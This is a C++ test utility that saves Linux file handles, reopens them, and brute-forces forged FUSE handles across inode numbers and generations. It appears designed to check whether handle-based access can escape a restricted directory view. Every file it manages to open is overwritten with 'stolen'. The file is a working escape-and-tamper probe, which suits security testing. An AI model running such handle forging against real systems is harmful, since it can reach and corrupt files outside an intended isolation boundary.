// file_handle save PATH FILE: keeps the handle of PATH in FILE; prints "ok" or the errno.
// file_handle open VIEW FILE: opens a kept handle below VIEW.
// file_handle forge VIEW NODES GENERATIONS: opens every handle that could stand for the first NODES
//   inodes of a FUSE connection, in GENERATIONS generations each.
// What does open is overwritten, as an attacker would. open and forge print the outcomes, each
// once.
#include <fcntl.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <set>
#include <string>
#include <string_view>

namespace {

constexpr unsigned kMaxBytes = 128;
// fs/fuse/inode.c in Linux: FILEID_INO64_GEN and FILEID_INO64_GEN_PARENT.
constexpr int kFuseHandle = 0x81;
constexpr int kFuseHandleWithParent = 0x82;
#ifndef AT_HANDLE_FID
constexpr int AT_HANDLE_FID = 0x200;  // since Linux 6.5: a handle that only identifies
#endif

union Handle {
  file_handle head;
  char bytes[sizeof(file_handle) + kMaxBytes];
};

std::set<std::string> outcomes;

int save(const char* path, const char* file) {
  Handle handle{};
  int mount_id = 0;
  handle.head.handle_bytes = kMaxBytes;
  if (name_to_handle_at(AT_FDCWD, path, &handle.head, &mount_id, 0) < 0) {
    handle.head.handle_bytes = kMaxBytes;
    if (name_to_handle_at(AT_FDCWD, path, &handle.head, &mount_id, AT_HANDLE_FID) < 0) return -1;
  }
  const int fd = open(file, O_WRONLY | O_CREAT | O_TRUNC, 0600);
  if (fd < 0 || write(fd, &handle, sizeof handle) != sizeof handle) return -1;
  return close(fd);
}

void overwrite(int fd) {
  char link[32];
  char path[4096];
  std::snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
  const ssize_t length = readlink(link, path, sizeof path);
  outcomes.insert("opened " + std::string(path, length < 0 ? 0 : static_cast<std::size_t>(length)));
  if (pwrite(fd, "stolen", 6, 0) < 0) outcomes.insert(strerrorname_np(errno));
  close(fd);
}

void try_to_open(int view, Handle& handle) {
  for (const int flags : {O_RDWR, O_RDONLY, O_RDONLY | O_DIRECTORY, O_PATH}) {
    const int fd = open_by_handle_at(view, &handle.head, flags);
    if (fd < 0) {
      outcomes.insert(strerrorname_np(errno));
    } else {
      overwrite(fd);
    }
  }
}

int open_kept(int view, const char* file) {
  Handle handle{};
  const int fd = open(file, O_RDONLY);
  if (fd < 0 || read(fd, &handle, sizeof handle) != sizeof handle) return -1;
  try_to_open(view, handle);
  return close(fd);
}

void forge(int view, unsigned node, unsigned generation) {
  const unsigned words[6] = {0, node, generation, 0, 1, 0};  // the second half: the root as parent
  for (const int type : {kFuseHandle, kFuseHandleWithParent}) {
    Handle handle{};
    handle.head.handle_type = type;
    handle.head.handle_bytes = type == kFuseHandle ? 12 : 24;
    std::memcpy(handle.bytes + sizeof(file_handle), words, handle.head.handle_bytes);
    try_to_open(view, handle);
  }
}

int print(int result) {
  if (result < 0) outcomes.insert(strerrorname_np(errno));
  for (const std::string& outcome : outcomes) std::puts(outcome.c_str());
  return result < 0 ? 1 : 0;
}

unsigned number(const char* text) {
  return static_cast<unsigned>(std::strtoul(text, nullptr, 10));
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 4) return 2;
  const std::string_view what(argv[1]);
  if (what == "save") {
    const int result = save(argv[2], argv[3]);
    if (result == 0) outcomes.insert("ok");
    return print(result);
  }
  const int view = open(argv[2], O_RDONLY | O_DIRECTORY);
  if (view < 0) return print(-1);
  if (what == "open") return print(open_kept(view, argv[3]));
  if (what != "forge" || argc < 5) return 2;
  for (unsigned node = 0; node <= number(argv[3]); ++node) {
    for (unsigned generation = 0; generation < number(argv[4]); ++generation) {
      forge(view, node, generation);
    }
  }
  return print(0);
}
